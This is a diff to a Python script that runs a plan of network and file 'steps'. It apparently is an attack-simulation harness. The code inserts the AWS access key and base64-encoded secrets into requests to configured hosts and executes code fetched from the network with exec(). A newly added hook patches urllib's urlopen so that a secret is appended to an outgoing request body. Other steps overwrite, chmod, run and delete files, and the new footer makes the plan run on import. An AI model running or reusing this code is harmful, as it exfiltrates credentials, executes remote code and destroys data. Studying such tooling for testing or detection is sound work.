@@ -40,6 +40,7 @@ def filled(text: str, step: dict[str, Any]) -> str:
     taken = secret(step["take"]) if step["take"] else ""
     given = {"host": step["host"], "path": step.get("path", ""), "key": os.environ["AWS_ACCESS_KEY_ID"]}
     given["base64"] = base64.b64encode(taken.encode()).decode()
+    given |= {"interpreter": sys.executable, "payload": __file__, "step": str(step["step"])}
     given["label"] = taken.strip()[-30:].encode().hex()
     return re.sub(r"\{(\w+)\}", lambda found: given.get(found[1], found[0]), text)
 
@@ -51,6 +52,21 @@ def request(step: dict[str, Any]) -> bytes:
     asked = urllib.request.Request(url, filled(step["body"], step).encode() or None, headers)
     with urllib.request.urlopen(asked, timeout=SECONDS) as response:
         return response.read()
+
+
+def add(step: dict[str, Any]) -> None:
+    """Hooks the language's HTTP client for one call, whose body then has the secret too."""
+    original = urllib.request.urlopen
+
+    def hooked(asked: urllib.request.Request, **rest: Any) -> Any:
+        asked.data = b"%b%b" % (asked.data, base64.b64encode(secret(step["take"]).encode()))
+        return original(asked, **rest)
+
+    urllib.request.urlopen = hooked
+    try:
+        request(step)
+    finally:
+        urllib.request.urlopen = original
 
 
 def alter(step: dict[str, Any]) -> None:
@@ -85,23 +101,25 @@ def answer(step: dict[str, Any]) -> None:
 
 
 def do(step: dict[str, Any]) -> None:
-    got = request(step) if step["port"] else b""
+    got = request(step) if step["port"] and "hook" not in step else b""
     file = Path(step.get("path", "/"))
     if "lookup" in step:
         socket.getaddrinfo(filled(step["lookup"], step), 80)
     if "evaluate" in step:
         exec(got.decode())
+    if "sound" in step:
+        got = base64.b64decode(got.partition(b"data")[2])
     if "write" in step:
         file.write_bytes(got or b"overwritten")
     if "start" in step:
         if "write" in step:
             file.chmod(0o755)
         program = [filled(text, step) for text in step["start"]]
-        subprocess.run([*program, PLAN["nonce"], str(step["step"])], check=True, timeout=SECONDS)
+        subprocess.run([*program, PLAN["nonce"], str(step["step"])], input=got, check=True, timeout=SECONDS)
     if "delete" in step:
         file.unlink()
     if "hook" in step:
-        {"alter": alter, "answer": answer}[step["hook"]](step)
+        {"add": add, "alter": alter, "answer": answer}[step["hook"]](step)
 
 
 def play() -> None:
@@ -117,4 +135,10 @@ def play() -> None:
         say(finished=True)
 
 
-play()
+if __name__ != "__main__":
+    if PLAN.get("when") != "call":
+        play()
+elif len(sys.argv) < 4:  # A child of a storm starts one too; the child's child says that it ran.
+    subprocess.run([sys.executable, *sys.argv, "again"], check=True)
+else:
+    say(ran=int(sys.argv[2]))
